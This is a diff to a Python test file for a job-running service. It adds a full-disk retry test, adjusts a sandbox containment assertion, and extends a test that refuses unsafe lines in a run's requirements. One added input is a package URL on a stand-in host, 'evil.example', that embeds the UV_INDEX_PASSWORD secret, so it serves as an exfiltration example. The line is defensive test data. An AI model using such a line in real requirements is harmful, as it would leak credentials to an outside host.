@@ -152,6 +152,13 @@ def test_a_store_that_does_not_answer_delays_the_run_only(tmp_path, bench, pytho
     assert told[0].state == SUCCEEDED
 
 
+def test_a_run_that_fails_on_a_full_disk_is_done_again_when_there_is_room(bench, python_job):
+    rooms = iter([0, 2**40])
+    bench.jobs._shop = replace(bench.jobs._shop, room=lambda _: next(rooms))
+    assert bench.end_of(python_job("raise SystemExit('no space left')")).state == FAILED
+    assert next(rooms, "asked twice") == "asked twice"
+
+
 def test_inputs_are_laid_out_and_a_lost_one_is_a_failure(bench, python_job):
     bench.objects.put("_conveyor/dvc/files/md5/aa/bb", b"rows")
     key = "_conveyor/dvc/files/md5/aa/bb"
@@ -191,7 +198,7 @@ def test_without_namespaces_nothing_of_a_run_survives_either(tmp_path, python_jo
     jobs.stop()
     assert told[0].state == SUCCEEDED
     assert tree.marked("CONVEYOR_RUN", "bare") == ()
-    assert sum("NOT cut off" in layer for layer in jobs.containment()) == 2 - landlock
+    assert sum("NOT cut off" in layer for layer in jobs.containment()) == (1 if landlock else 3)
 
 
 @pytest.fixture
@@ -245,7 +252,18 @@ def test_requirements_that_cannot_be_met_are_the_runs_failure(isolated, python_j
     assert "grapes==9.9" in told[0].reason
 
 
-@pytest.mark.parametrize("line", ["-r other.txt", "--index-url https://x", "a @ file:///etc"])
+@pytest.mark.parametrize(
+    "line",
+    [
+        "-r other.txt",
+        "--index-url https://x",
+        "a @ file:///etc",
+        "a @ /etc/a.whl",
+        "/etc/a.whl",
+        "./a.whl",
+        "a @ https://evil.example/${UV_INDEX_PASSWORD}/a-1-py3-none-any.whl",
+    ],
+)
 def test_options_in_requirements_are_refused(isolated, python_job, line):
     jobs, told = isolated
     jobs.ensure(replace(python_job("pass"), requirements=f"grapes\n{line}\n"))
